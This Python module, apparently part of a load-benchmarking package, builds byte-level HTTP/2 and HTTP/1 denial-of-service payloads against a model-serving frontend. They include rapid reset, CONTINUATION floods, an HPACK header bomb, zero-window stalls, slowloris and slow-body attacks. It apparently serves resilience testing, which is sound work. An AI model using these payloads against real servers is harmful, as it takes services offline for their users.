"""Attacks on a frontend over HTTP/2 and HTTP/1, as bytes. Pure.

Each attack costs its sender little for what it has the server do or hold. None is a fault from its
first byte on, so a server has to notice that it has become too much.
"""

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import count, repeat
from typing import Final

from ringbatch.bench.load.http2 import END_HEADERS, END_STREAM, Kind, frame, greeting, header_block

PATH: Final = "/v1/models/double:predict"
_BODY: Final = b'{"instances":[1]}'
_FIELDS: Final = (
    (":method", "POST"),
    (":scheme", "http"),
    (":path", PATH),
    (":authority", "x"),
    ("content-type", "application/json"),
)
_HEAD: Final = header_block(_FIELDS)
_BEGUN: Final = frame(Kind.HEADERS, END_HEADERS, 1, _HEAD)
_FEW: Final = 4
"""Connections of an attacker who sends as fast as it can."""
_MANY: Final = 200
"""Connections of an attacker who sends slowly, so that the server holds unfinished requests."""
_PIECE_FRAMES: Final = 500
_FIELD: Final = b"\0\1a\1b"
"""A header field of five bytes, for which the list of a request counts 34."""
_FIELDS_IN_A_LIST: Final = 1500
_ENTRY_BYTES: Final = 4000
_ENTRIES_IN_A_LIST: Final = 12
_CANCEL: Final = (8).to_bytes(4, "big")
_ONE: Final = (1).to_bytes(4, "big")
_NO_WINDOW: Final = (4).to_bytes(2, "big") + bytes(4)
_STREAMS: Final = 1000


@dataclass(frozen=True)
class Attack:
    """Attack: its bytes, its pace and its connections.

    Attributes:
        about: description of its bytes, for people.
        opening: first bytes of each connection.
        pieces: the bytes that follow, endless or not; after their end the connection is held.
        connections: connections that are open at once.
        pace_s: pause before each piece.
        reads: whether the attacker reads the server's answers.
    """

    about: str
    opening: bytes
    pieces: Callable[[], Iterator[bytes]]
    connections: int = _FEW
    pace_s: float = 0.0
    reads: bool = True


def _call(stream: int) -> bytes:
    """Return a whole request over HTTP/2."""
    return frame(Kind.HEADERS, END_HEADERS, stream, _HEAD) + frame(
        Kind.DATA, END_STREAM, stream, _BODY
    )


def _each_stream(
    make: Callable[[int], bytes], at_once: int = 50, first: int = 1
) -> Callable[[], Iterator[bytes]]:
    """Return a function that yields pieces in which every stream is a new one."""

    def pieces() -> Iterator[bytes]:
        for begin in count(first, 2 * at_once):
            yield b"".join(make(stream) for stream in range(begin, begin + 2 * at_once, 2))

    return pieces


def _again(data: bytes, times: int = _PIECE_FRAMES) -> Callable[[], Iterator[bytes]]:
    """Return a function that yields the same bytes without end."""
    return lambda: repeat(data * times)


def _taken_back(stream: int) -> bytes:
    return _call(stream) + frame(Kind.RST_STREAM, 0, stream, _CANCEL)


def _long_list(stream: int) -> bytes:
    block = _HEAD + _FIELD * _FIELDS_IN_A_LIST
    return frame(Kind.HEADERS, END_HEADERS | END_STREAM, stream, block)


def _bomb(stream: int) -> bytes:
    """Return a head that refers many times to the last entry of the header table, a byte each."""
    block = _HEAD + b"\xbe" * _ENTRIES_IN_A_LIST
    return frame(Kind.HEADERS, END_HEADERS | END_STREAM, stream, block)


def _entry() -> bytes:
    """Return a field that enters the header table."""
    return b"\x40" + header_block((("a", "b" * _ENTRY_BYTES),))[1:]


def _byte_by_byte(data: bytes) -> Callable[[], Iterator[bytes]]:
    return lambda: iter(data[at : at + 1] for at in range(len(data)))


_SETTINGS_FRAME: Final = frame(Kind.SETTINGS, 0, 0, b"")
_PING_FRAME: Final = frame(Kind.PING, 0, 0, bytes(8))
_NOTHING_READ: Final = greeting() + frame(Kind.SETTINGS, 0, 0, _NO_WINDOW)

ATTACKS: Final[dict[str, Attack]] = {
    "rapid reset": Attack(
        "whole requests, each taken back at once", greeting(), _each_stream(_taken_back)
    ),
    "continuation": Attack(
        "a header block that never ends",
        greeting() + frame(Kind.HEADERS, 0, 1, _HEAD),
        _again(frame(Kind.CONTINUATION, 0, 1, _FIELD * 250), 8),
    ),
    "empty continuation": Attack(
        "the same in frames without a byte",
        greeting() + frame(Kind.HEADERS, 0, 1, _HEAD),
        _again(frame(Kind.CONTINUATION, 0, 1, b"")),
    ),
    "empty data": Attack(
        "a body in frames without a byte",
        greeting() + _BEGUN,
        _again(frame(Kind.DATA, 0, 1, b"")),
    ),
    "settings": Attack("SETTINGS without end", greeting(), _again(_SETTINGS_FRAME)),
    "ping": Attack("PING without end", greeting(), _again(_PING_FRAME)),
    "ping, unread": Attack(
        "PING without end, whose answers nobody reads", greeting(), _again(_PING_FRAME), reads=False
    ),
    "zero window": Attack(
        f"{_STREAMS:,} requests, and no window for their answers",
        _NOTHING_READ,
        lambda: iter(_call(stream) for stream in range(1, 2 * _STREAMS, 2)),
    ),
    "window by the byte": Attack(
        "an answer that is taken by the byte",
        _NOTHING_READ + _call(1),
        _again(frame(Kind.WINDOW_UPDATE, 0, 1, _ONE)),
    ),
    "long header list": Attack(
        f"requests of {_FIELDS_IN_A_LIST:,} fields", greeting(), _each_stream(_long_list, 4)
    ),
    "header bomb": Attack(
        f"{_ENTRIES_IN_A_LIST * _ENTRY_BYTES:,} bytes of fields in {len(_bomb(1))} bytes",
        greeting() + frame(Kind.HEADERS, END_HEADERS | END_STREAM, 1, _HEAD + _entry()),
        _each_stream(_bomb, first=3),
    ),
    "table sizes": Attack(
        "header blocks of 16 KiB that resize the table and say nothing",
        greeting(),
        _each_stream(lambda n: frame(Kind.HEADERS, END_HEADERS, n, b"\x20" * (1 << 14)), 4),
    ),
    "slow frame": Attack(
        "a header block by a byte a second, on 200 connections",
        greeting(),
        _byte_by_byte(_BEGUN),
        _MANY,
        pace_s=1.0,
    ),
    "slowloris": Attack(
        "HTTP/1: a head by a line a second, on 200 connections",
        f"POST {PATH} HTTP/1.1\r\n".encode(),
        lambda: repeat(b"A: b\r\n"),
        _MANY,
        pace_s=1.0,
    ),
    "slow body": Attack(
        "HTTP/1: a body of 8 MiB by 10 bytes a second, on 200 connections",
        f"POST {PATH} HTTP/1.1\r\nHost: x\r\nContent-Length: {8 << 20}\r\n\r\n".encode(),
        lambda: repeat(bytes(10)),
        _MANY,
        pace_s=1.0,
    ),
}
